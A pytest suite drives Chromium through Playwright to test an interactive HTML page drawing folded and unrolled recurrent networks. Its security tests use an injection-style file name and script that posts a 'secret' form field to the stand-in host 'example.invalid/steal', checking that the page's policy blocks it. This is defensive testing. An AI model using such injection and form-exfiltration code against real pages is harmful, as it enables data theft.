"""The interactive page in a real browser (Chromium through Playwright): clicking an output
shades exactly what it depends on (`deps`, and the unrolled DAG's ancestors), clicking a
folded vector or weight shades its copies, the keyboard reaches the outputs, and the page
makes no request and logs no error. Screenshots go to out/browser/ for a person to look at.
"""

from __future__ import annotations

import json
import math
import re
import shutil
from pathlib import Path

import networkx as nx
import numpy as np
import pytest
import yaml

from composer.cli.report import format_dependencies
from composer.draw.graphviz import dot_svg
from composer.draw.page import (
    embedded_json,
    fingerprint,
    page_data,
    page_html,
    page_stamp,
    page_steps,
)
from composer.draw.style import Style, merged_readouts
from composer.draw.view import same_steps
from composer.engine.plan import compile_plan
from composer.errors import DataError
from composer.graph.deps import dependencies
from composer.graph.folded import build
from composer.graph.unrolled import unroll, unrolled_graph
from composer.graph.weights import init_params
from composer.spec.model import NetworkSpec
from composer.spec.reader import load_spec
from composer.training.trace import trace
from tests.builders import connection, layer, readout, spec
from tests.conftest import ROOT

CHROMIUM = Path("/usr/bin/chromium")
LECTURE_SPEC = "specs/lecture-elman.yaml"
SHOTS = ROOT / "out" / "browser"
SKIPS = spec(
    [layer("l1"), layer("l2", input="l1"), layer("l3", input="l2", output=readout(2))],
    connections=[connection("l1", "l3", 0), connection("x", "l3", 0)],
    steps=4,
)
#: (name, spec, the largest T, the T values to click through)
CASES = [
    ("lecture-elman", load_spec(ROOT / "specs/lecture-elman.yaml"), 4, [1, 4]),
    ("bidirectional", load_spec(ROOT / "specs/bidirectional-tagger.yaml"), 5, [2, 5]),
    ("dilated", load_spec(ROOT / "specs/dilated.yaml"), 8, [8]),
    ("encoder-decoder", load_spec(ROOT / "specs/encoder-decoder.yaml"), 8, [8]),
    ("jordan", load_spec(ROOT / "specs/jordan.yaml"), 5, [3, 5]),
    ("skips", SKIPS, 4, [4]),
    ("elided", load_spec(ROOT / "specs/lecture-elman.yaml"), 30, [30]),
]
needs_dot = pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz's dot is missing")


@pytest.fixture(scope="module")
def browser():
    """One Chromium for the module (the system's: Playwright's own download is not used)."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("Playwright for Python is missing (pip install playwright)")
    if not CHROMIUM.exists():
        pytest.skip(f"no Chromium at {CHROMIUM} (Debian: apt-get install chromium)")
    if shutil.which("dot") is None:
        pytest.skip("Graphviz's dot is missing; the page is drawn by it")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        yield chromium
        chromium.close()


class Page:
    """A page open in the browser, with what it logged and requested."""

    def __init__(self, browser, path: Path):
        self.url = path.as_uri()
        self.page = browser.new_page(viewport={"width": 1400, "height": 900})
        self.errors, self.requests = [], []
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.goto(self.url)

    def _console(self, message) -> None:
        if message.type in ("error", "warning"):
            self.errors.append(message.text)

    def steps(self, t: int) -> None:
        self.page.evaluate(
            "t => { const s = document.getElementById('steps');"
            " s.value = String(DATA.drawings.findIndex(d => d.T === t));"
            " s.dispatchEvent(new Event('input')); }",
            t,
        )

    def marked(self, where: str, cls: str) -> set[str]:
        return set(
            self.page.evaluate(f"[...document.querySelectorAll('#{where} g.{cls}')].map(g => g.id)")
        )

    def click(self, where: str, node_id: str) -> None:
        self.page.locator(f'#{where} g[id="{node_id}"]').dispatch_event("click")

    def clean(self) -> None:
        assert self.errors == [], self.errors
        assert self.requests == [self.url], self.requests  # the file itself, nothing else


def write_page(folder: Path, name: str, network, steps: int, values=None, style=Style()) -> Path:
    graph = build(network)
    unrollings = page_steps(steps, lambda t: unroll(graph, t))
    path = folder / f"{name}.html"
    text = page_html(name, unrollings, dot_svg, values=values, style=style)
    path.write_text(text, encoding="utf-8")
    return path


def drawn_id(node, renamed) -> str:
    return f"{renamed.get(node[0], node[0])}@{node[1]}"


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("pages")


@needs_dot
@pytest.mark.parametrize(("name", "network", "steps", "clicked"), CASES, ids=[c[0] for c in CASES])
def test_clicking_an_output_shades_exactly_what_it_depends_on(
    browser, folder, name, network, steps, clicked
):
    graph = build(network)
    opened = Page(browser, write_page(folder, name, network, steps))
    merge = merged_readouts(graph)
    for t in clicked:
        opened.steps(t)
        unrolled = unroll(graph, t)
        renamed = same_steps(unrolled, merge)
        dag = unrolled_graph(unrolled)
        shown = {n for n in opened.marked("unfolded-view", "node") if "@" in n}
        for output, by_step in dependencies(unrolled).items():
            for step, needs in by_step.items():
                target = f"{output}@{step}"
                if target not in shown:
                    continue  # an elided column
                opened.click("unfolded-view", target)
                shaded = opened.marked("unfolded-view", "node.anc") - {target}
                inputs = {n for n in shaded if graph.nodes[n.rpartition("@")[0]]["role"] == "input"}
                wanted = {f"{x}@{s}" for x, steps_ in needs.items() for s in steps_}
                assert inputs == wanted & shown  # what `deps` says, where it is drawn
                # the node drawn for the output is also its readout's, when merged
                cells = [(output, step)] + [(r, step) for r, o in renamed.items() if o == output]
                cone = {drawn_id(n, renamed) for c in cells for n in nx.ancestors(dag, c)}
                assert shaded == (cone & shown) - {target}
                after = {drawn_id(n, renamed) for c in cells for n in nx.descendants(dag, c)}
                assert opened.marked("unfolded-view", "node.desc") == (after & shown) - {target}
    SHOTS.mkdir(parents=True, exist_ok=True)
    opened.page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)
    opened.clean()
    opened.page.close()


@needs_dot
def test_a_folded_vector_or_weight_shades_every_unrolled_copy(browser, folder):
    network = load_spec(ROOT / "specs/lecture-elman.yaml")
    opened = Page(browser, write_page(folder, "copies", network, 4))
    opened.page.locator('#folded-view g[id="s.s"]').click()  # a real click
    copies = opened.marked("unfolded-view", "node.copy")
    assert copies == {f"s.s@{t}" for t in range(-1, 4)}
    opened.click("folded-view", "s.s->s.s")
    assert opened.marked("unfolded-view", "edge.copy") == {
        f"s.s@{t - 1}->s.s@{t}" for t in range(4)
    }
    status = opened.page.text_content("#status")
    assert "s.Ws: shared by 4 edges at T = 4" in status
    SHOTS.mkdir(parents=True, exist_ok=True)
    opened.page.screenshot(path=str(SHOTS / "copies.png"), full_page=True)
    opened.page.keyboard.press("Escape")
    assert opened.marked("unfolded-view", "copy") == set()
    opened.clean()
    opened.page.close()


@needs_dot
def test_the_keyboard_reaches_the_outputs_and_nodes_have_text(browser, folder):
    network = load_spec(ROOT / "specs/lecture-elman.yaml")
    opened = Page(browser, write_page(folder, "keys", network, 4))
    reached = []
    for _ in range(30):
        opened.page.keyboard.press("Tab")
        reached.append(opened.page.evaluate("document.activeElement.id"))
    outputs = [r for r in reached if r.startswith("y@")]
    assert outputs[:4] == ["y@0", "y@1", "y@2", "y@3"]
    while opened.page.evaluate("document.activeElement.id") != "y@2":
        opened.page.keyboard.press("Tab")
    opened.page.keyboard.press("Enter")
    assert "x@0" in opened.marked("unfolded-view", "node.anc")
    label = opened.page.get_attribute('#unfolded-view g[id="s.s@1"]', "aria-label")
    assert label == "s at step 1: state, size 8"
    title = opened.page.text_content('#unfolded-view g[id="s.s@1"] > title')
    assert "computed at steps 0..3" in title
    opened.clean()
    opened.page.close()


@needs_dot
def test_values_are_drawn_on_the_nodes(browser, folder):
    network = load_spec(ROOT / "specs/lecture-elman.yaml")
    graph = build(network)
    plan = compile_plan(unroll(graph, 4))
    x = np.eye(4)[np.newaxis]
    found = trace(plan, init_params(graph, 0, "float64"), {"x": x})
    values = {key: value[0] for key, value in found.items()}
    opened = Page(browser, write_page(folder, "values", network, 4, values=values))
    cells = opened.page.evaluate(
        "[...document.querySelectorAll('#unfolded-view g[id=\"s.s@2\"] rect.cell')]"
        ".map(r => r.getAttribute('fill'))"
    )
    assert len(cells) == 8 and len(set(cells)) > 1
    assert len(opened.page.locator('#unfolded-view g[id="y@3"] rect.cell').all()) == 3
    opened.steps(2)  # values belong to the T they were traced at
    assert opened.page.locator("rect.cell").count() == 0
    opened.steps(4)
    SHOTS.mkdir(parents=True, exist_ok=True)
    opened.page.screenshot(path=str(SHOTS / "values.png"), full_page=True)
    opened.clean()
    opened.page.close()


def test_a_pages_stamp_is_its_sources_digest(tmp_path):
    network = load_spec(ROOT / "specs/lecture-elman.yaml")
    graph = build(network)
    unrollings = page_steps(4, lambda t: unroll(graph, t))
    html = page_html("n", unrollings, lambda text: "<svg>" + text[:0] + "</svg>")
    assert page_stamp(html) == fingerprint(page_data("n", unrollings))
    other = fingerprint(page_data("n", unrollings, style=Style(readout="both")))
    assert other != page_stamp(html)
    assert not re.search(r"""(src|href|url)\s*[=(]\s*["']?(https?:|//)""", html)


# -- what a hostile name, an overflow or a form cannot do --------------------------------

NONAME = {
    "version": 1,
    "steps": 3,
    "inputs": [{"name": "x", "size": 2}],
    "layers": [
        {"name": "s", "kind": "elman", "input": "x", "state_size": 3, "activation": "identity",
         "output": {"size": 2}}
    ],
    "outputs": [{"name": "y", "from": "s"}],
}  # fmt: skip


def render_page(folder: Path, out: str, *extra: str):
    from typer.testing import CliRunner

    from composer.cli import app
    from tests.builders import write_spec

    source = write_spec(folder, yaml.safe_dump(NONAME), "noname.yaml")
    target = folder / out
    result = CliRunner().invoke(
        app, ["render", str(source), "--format", "html", "--output", str(target), *extra]
    )
    return result, target


def test_embedded_json_has_no_character_that_ends_or_comments_the_block():
    data = {"name": "a<!--<script></script>&amp;", "n": [1.5]}
    text = embedded_json(data)
    assert not set("<>&") & set(text)
    assert json.loads(text) == data


def test_non_finite_numbers_never_reach_the_json():
    with pytest.raises(ValueError):
        embedded_json({"v": [math.inf]})


@needs_dot
def test_a_name_from_the_file_name_cannot_blank_the_page(browser, tmp_path):
    result, path = render_page(tmp_path, "a<!--<script>.html")
    assert result.exit_code == 0, result.output
    opened = Page(browser, path)
    assert opened.page.text_content("h1") == "a<!--<script>"
    assert opened.page.text_content("#steps-value") == "3"  # the script ran
    assert opened.page.locator("#unfolded-view svg").count() == 1
    opened.clean()
    opened.page.close()


def test_values_that_overflow_are_refused_naming_where(tmp_path):
    x = tmp_path / "x.npy"
    np.save(x, np.full((1, 3, 2), 1e200))
    graph = build(NetworkSpec.model_validate(NONAME))
    params = init_params(graph, 0, "float64")
    weights = tmp_path / "w.npz"
    np.savez(weights, **{k: np.full_like(v, 1e200) for k, v in params.items()})
    result, path = render_page(tmp_path, "o.html", "--input", str(x), "--weights", str(weights))
    assert result.exit_code == 4, result.output
    assert "the traced values overflow: s.s at step 0 holds inf" in result.output
    assert not path.exists()


def test_a_trace_with_nan_inside_a_row_is_refused():
    graph = build(NetworkSpec.model_validate(NONAME))
    unrollings = page_steps(2, lambda t: unroll(graph, t))
    row = np.array([[0.5, np.nan, 0.1], [0.2, 0.3, 0.4]])
    with pytest.raises(DataError, match=r"s\.s at step 0 holds nan \(element 1\)"):
        page_data("n", unrollings, values={"s.s": row})


@needs_dot
def test_the_page_blocks_form_submissions_and_base_changes(browser, folder):
    network = load_spec(ROOT / "specs/lecture-elman.yaml")
    opened = Page(browser, write_page(folder, "forms", network, 2))
    target = "https://example.invalid/steal"
    opened.page.evaluate(
        """target => {
          window.violations = [];
          document.addEventListener('securitypolicyviolation',
            e => window.violations.push(e.effectiveDirective));
          const base = document.createElement('base');
          base.href = 'https://example.invalid/';
          document.head.appendChild(base);
          const form = document.createElement('form');
          form.action = target; form.method = 'post';
          const field = document.createElement('input');
          field.name = 'secret'; field.value = '1';
          form.appendChild(field); document.body.appendChild(form);
          form.submit();
        }""",
        target,
    )
    opened.page.wait_for_timeout(500)
    assert opened.page.url == opened.url  # no navigation
    assert opened.page.evaluate("document.baseURI") == opened.url
    assert sorted(set(opened.page.evaluate("window.violations"))) == ["base-uri", "form-action"]
    assert target not in opened.requests
    assert all("Content Security Policy" in e for e in opened.errors), opened.errors
    opened.page.close()


# -- the page in a lecture hall: what `deps` says, taps, the slider, formulas ------------

DEPS_CASES = [
    ("lecture-elman", 20),  # T = 20 is drawn with its middle steps elided
    ("narx", 14),
    ("bidirectional-tagger", 5),
    ("encoder-decoder", 8),
]


@needs_dot
@pytest.mark.parametrize(("stem", "steps"), DEPS_CASES, ids=[c[0] for c in DEPS_CASES])
def test_the_status_line_says_what_deps_says_at_every_t(browser, folder, stem, steps):
    network = load_spec(ROOT / f"specs/{stem}.yaml")
    graph = build(network)
    opened = Page(browser, write_page(folder, f"deps-{stem}", network, steps))
    for t in opened.page.evaluate("DATA.drawings.map(d => d.T)"):
        opened.steps(t)
        lines = {line.split(" <- ")[0]: line
                 for line in format_dependencies(dependencies(unroll(graph, t)))}  # fmt: skip
        shown = {n for n in opened.marked("unfolded-view", "node") if "@" in n}
        clicked = 0
        for node in sorted(shown):
            name, step = node.rpartition("@")[::2]
            if f"{name}[{step}]" not in lines:
                continue
            opened.click("unfolded-view", node)
            status = opened.page.text_content("#status")
            assert status.split(";")[0] == lines[f"{name}[{step}]"], (t, node)
            clicked += 1
        assert clicked > 0
    opened.clean()
    opened.page.close()


@needs_dot
def test_taps_drawn_apart_have_ids_of_their_own(browser, folder):
    network = load_spec(ROOT / "specs/narx.yaml")
    opened = Page(browser, write_page(folder, "taps", network, 6, style=Style(taps="apart")))
    ids = opened.page.evaluate(
        "[...document.querySelectorAll('#folded-view g.edge')].map(g => g.id)"
    )
    taps = [i for i in ids if i.startswith("u->h.y")]
    assert sorted(taps) == ["u->h.y:h.W@1", "u->h.y:h.W@2", "u->h.y:h.W@3"]
    opened.click("folded-view", "u->h.y:h.W@2")
    copies = opened.marked("unfolded-view", "edge.copy")
    assert copies and all(
        int(c.split("->")[1].rpartition("@")[2]) - int(c.split("->")[0].rpartition("@")[2]) == 2
        for c in copies
    )
    assert opened.page.text_content("#status").startswith("h.W@2: shared by")
    opened.clean()
    opened.page.close()
    together = Page(browser, write_page(folder, "taps-one", network, 6))
    together.click("folded-view", "u->h.y")  # one edge for the three taps
    assert together.page.text_content("#status").startswith("h.W@1, h.W@2, h.W@3: shared by")
    together.clean()
    together.page.close()


@needs_dot
def test_the_slider_leaves_no_stale_tooltip_or_selection(browser, folder):
    network = load_spec(ROOT / "specs/lecture-elman.yaml")
    opened = Page(browser, write_page(folder, "slider", network, 4))
    opened.page.locator('#unfolded-view g[id="s.s@3"]').hover()
    assert opened.page.is_visible("#tip")
    opened.steps(1)
    assert not opened.page.is_visible("#tip")
    opened.click("folded-view", "s.s->s.s")
    assert opened.marked("unfolded-view", "edge.copy") == {"s.s@-1->s.s@0"}
    opened.steps(3)  # the selection follows the slider: its copies at the new T
    assert opened.marked("unfolded-view", "edge.copy") == {
        f"s.s@{t - 1}->s.s@{t}" for t in range(3)
    }
    assert opened.page.text_content("#status") == "s.Ws: shared by 3 edges at T = 3"
    opened.click("unfolded-view", "y@2")
    opened.steps(2)  # an unfolded node's shading goes with its drawing
    assert opened.marked("unfolded-view", "anc") == set()
    assert opened.page.text_content("#status") == ""
    opened.clean()
    opened.page.close()


@needs_dot
def test_the_tooltips_write_the_lectures_formulas(browser, folder):
    opened = Page(browser, write_page(folder, "formulas", load_spec(ROOT / LECTURE_SPEC), 4))
    state = opened.page.text_content('#unfolded-view g[id="s.s@1"] > title')
    assert "s_t = tanh(x_t Wx + s_{t-1} Ws + b)" in state
    output = opened.page.text_content('#unfolded-view g[id="y@1"] > title')
    assert "y_t = softmax(s_t Wy + by)" in output
    opened.clean()
    opened.page.close()
    network = load_spec(ROOT / "specs/bidirectional-tagger.yaml")
    both = Page(browser, write_page(folder, "formulas-bi", network, 3))
    tags = both.page.text_content('#unfolded-view g[id="tags@1"] > title')
    assert "bilstm→_t Wy[0:24] + bilstm←_t Wy[24:48] + by" in tags
    backward = both.page.text_content('#unfolded-view g[id="bilstm.s_rev@1"] > title')
    assert "bilstm←_{t+1} Ws_rev + b_rev" in backward
    both.clean()
    both.page.close()


@needs_dot
def test_text_is_laid_out_in_the_font_the_page_uses_and_fits_its_node(browser, folder):
    for stem, steps in (("lecture-elman", 4), ("bidirectional-tagger", 3), ("lstm", 3)):
        opened = Page(
            browser,
            write_page(folder, f"font-{stem}", load_spec(ROOT / f"specs/{stem}.yaml"), steps),
        )
        fonts = opened.page.evaluate(
            "[...new Set([...document.querySelectorAll('svg text')]"
            ".map(t => t.getAttribute('font-family')))]"
        )
        assert fonts == ["DejaVu Sans"], fonts
        assert "DejaVu Sans" in opened.page.evaluate("getComputedStyle(document.body).fontFamily")
        too_wide = opened.page.evaluate(
            """[...document.querySelectorAll('svg g.node')].flatMap(g => {
                 const shape = g.querySelector('ellipse, polygon, path');
                 const texts = [...g.querySelectorAll('text')];
                 if (!shape || !texts.length) return [];
                 const box = shape.getBBox();
                 const left = Math.min(...texts.map(t => t.getBBox().x));
                 const right = Math.max(...texts.map(t => t.getBBox().x + t.getBBox().width));
                 const said = g.id + ': ' + (right - left) + ' > ' + box.width;
                 return right - left > box.width ? [said] : [];
               })"""
        )
        assert too_wide == [], (stem, too_wide)
        opened.clean()
        opened.page.close()


@needs_dot
def test_a_clicked_folded_edge_has_no_focus_box_and_cells_say_their_values(browser, folder):
    network = load_spec(ROOT / LECTURE_SPEC)
    graph = build(network)
    plan = compile_plan(unroll(graph, 4))
    found = trace(plan, init_params(graph, 0, "float64"), {"x": np.eye(4)[np.newaxis]})
    values = {key: value[0] for key, value in found.items()}
    opened = Page(browser, write_page(folder, "focus", network, 4, values=values))
    opened.page.locator('#folded-view g[id="s.s->s.s"] text').click()  # its label
    assert opened.page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "none"
    cell = opened.page.locator('#unfolded-view g[id="s.s@2"] rect.cell').nth(3)
    cell.hover()
    said = opened.page.text_content("#tip")
    assert said == f"s[2], unit 3: {round(float(values['s.s'][2, 3]), 4)}"
    opened.clean()
    opened.page.close()


def test_the_sites_wide_pictures_scroll_and_long_output_wraps(browser, tmp_path):
    """The site's style sheet on a page shaped as the site's: a wide unfolded picture keeps
    its size and its paragraph scrolls; a long output line wraps in its code box."""
    picture = ROOT / "docs/gallery/bidirectional-tagger.unfolded.svg"
    (tmp_path / "wide.unfolded.svg").write_bytes(picture.read_bytes())
    css = (ROOT / "docs/stylesheets/extra.css").read_text()
    page = tmp_path / "site.html"
    page.write_text(
        f"<!DOCTYPE html><html><head><style>{css} img {{ max-width: 100%; }}</style></head>"
        '<body style="width: 600px"><article class="md-typeset">'
        '<p><img id="wide" src="wide.unfolded.svg"></p>'
        f'<pre><code id="long">{"x" * 400}</code></pre></article></body></html>',
        encoding="utf-8",
    )
    opened = browser.new_page(viewport={"width": 800, "height": 600})
    opened.goto(page.as_uri())
    opened.wait_for_function("document.getElementById('wide').complete")
    natural, shown = opened.evaluate(
        "[document.getElementById('wide').naturalWidth, "
        "document.getElementById('wide').getBoundingClientRect().width]"
    )
    assert natural > 600 and shown == pytest.approx(natural, abs=1)
    assert opened.evaluate("(p => p.scrollWidth > p.clientWidth)(document.querySelector('p'))")
    # the long line wraps: all of it inside the box, on several lines
    assert opened.evaluate(
        "(c => c.scrollWidth <= c.clientWidth && c.getClientRects()[0].height > 40)"
        "(document.getElementById('long'))"
    )
    opened.close()


@needs_dot
def test_a_long_unfolding_fits_the_width_zooms_and_pans_and_tips_stay_clear(browser, folder):
    network = load_spec(ROOT / LECTURE_SPEC)
    opened = Page(browser, write_page(folder, "zoom", network, 12))
    page = opened.page
    assert page.evaluate("document.querySelector('main').classList.contains('wide')")
    width = "document.querySelector('#unfolded-view svg').getBoundingClientRect().width"
    room = "document.getElementById('unfolded-view').clientWidth"
    fitted = page.evaluate(width)
    assert fitted <= page.evaluate(room) and fitted > 0.8 * 1400 * 0.9  # the page's width
    for _ in range(4):
        page.click("#zoom-in")
    assert page.evaluate(width) > 2 * fitted
    assert page.evaluate(
        "(s => s.scrollWidth > s.clientWidth)(document.getElementById('unfolded-view'))"
    )
    page.click("#zoom-fit")
    assert page.evaluate(width) == pytest.approx(fitted, abs=1)
    opened.steps(4)  # a short unfolding shares the row with the folded picture
    assert not page.evaluate("document.querySelector('main').classList.contains('wide')")
    node = page.locator('#unfolded-view g[id="s.s@2"]')
    node.hover()
    tip, box = page.locator("#tip").bounding_box(), node.bounding_box()
    apart = (
        tip["x"] >= box["x"] + box["width"]
        or tip["x"] + tip["width"] <= box["x"]
        or tip["y"] >= box["y"] + box["height"]
        or tip["y"] + tip["height"] <= box["y"]
    )
    assert apart, (tip, box)
    opened.clean()
    opened.page.close()


@needs_dot
def test_values_traced_at_several_t_follow_the_slider(browser, folder):
    network = load_spec(ROOT / LECTURE_SPEC)
    graph = build(network)
    params = init_params(graph, 0, "float64")
    x = np.eye(4)[np.newaxis]
    traces = {
        t: {
            k: v[0]
            for k, v in trace(compile_plan(unroll(graph, t)), params, {"x": x[:, :t]}).items()
        }
        for t in (2, 4)
    }
    opened = Page(browser, write_page(folder, "values-by-t", network, 4, values=traces))
    for t, drawn in ((4, 4), (3, 0), (2, 2)):
        opened.steps(t)
        assert opened.page.locator('#unfolded-view g[id^="y@"] rect.cell').count() == 3 * drawn
    opened.clean()
    opened.page.close()
